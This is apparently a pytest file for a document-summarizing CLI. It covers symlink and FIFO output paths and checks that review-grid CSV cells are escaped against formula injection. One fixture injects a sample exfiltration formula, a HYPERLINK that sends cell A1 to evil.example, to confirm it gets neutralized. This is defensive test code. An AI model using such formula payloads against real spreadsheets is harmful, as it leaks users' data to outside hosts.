"""Hostile files, hostile servers, odd paths (issue 20): the real program, end to end.

Nothing here touches the real /dev; FIFOs, sockets and symlinks live in temporary folders.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
from pathlib import Path

from tests.conftest import API_KEY
from tests.support.cli import longdoc
from tests.support.sglang_server import FakeSGLang

ROOT = Path(__file__).resolve().parents[2]


def chats(server: FakeSGLang) -> int:
    return sum(r.path.endswith("/chat/completions") for r in server.requests)


def one_error(stderr: str) -> str:
    """The single ``Error:`` line of a failed command (and no traceback)."""
    assert "Traceback" not in stderr, stderr
    errors = [line for line in stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, stderr
    return errors[0]


def docs(folder: Path, count: int = 2) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for n in range(count):
        (folder / f"doc-{n}.md").write_text(f"# Doc {n}\n\nThe fee for item {n} is {n + 7} EUR.\n")
    return folder


# --- item 1: --out --------------------------------------------------------------------------


def test_a_bad_out_is_refused_before_anything_is_asked(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs")
    for out in (tmp_path / "missing" / "r.md", tmp_path):
        done = longdoc(
            "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
        )
        assert done.returncode == 2, done.stderr
        assert str(out) in one_error(done.stderr)
    assert chats(sglang) == 0


def test_out_through_a_symlink_and_into_a_fifo(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs")
    target = tmp_path / "target.md"
    link = tmp_path / "link.md"
    link.symlink_to(target)
    done = longdoc(
        "summarize", str(folder), "--out", str(link), home=home, server=sglang, api_key=API_KEY
    )
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and target.read_text().startswith("# Summaries")
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    done = longdoc(
        "summarize", str(folder), "--out", str(fifo), home=home, server=sglang, api_key=API_KEY
    )
    out, _ = reader.communicate(timeout=60)
    assert done.returncode == 0, done.stderr
    assert out.startswith(b"# Summaries") and fifo.exists() and not fifo.is_file()


# --- item 4: CSV formulas -------------------------------------------------------------------


def test_review_grid_cells_never_start_a_formula(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs", 1)
    questions = tmp_path / "q.txt"
    questions.write_text("What is the fee?\n=1+1 is a question too\n")
    sglang.behaviour.update(answer_text='=HYPERLINK("http://evil.example/?"&A1,"click")')
    out = tmp_path / "grid.csv"
    done = longdoc(
        "review", str(folder), "--questions", str(questions), "--out", str(out),
        home=home, server=sglang, api_key=API_KEY,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text())))
    assert rows[0][-1] == "'=1+1 is a question too"
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][5].startswith("'=HYPERLINK(")
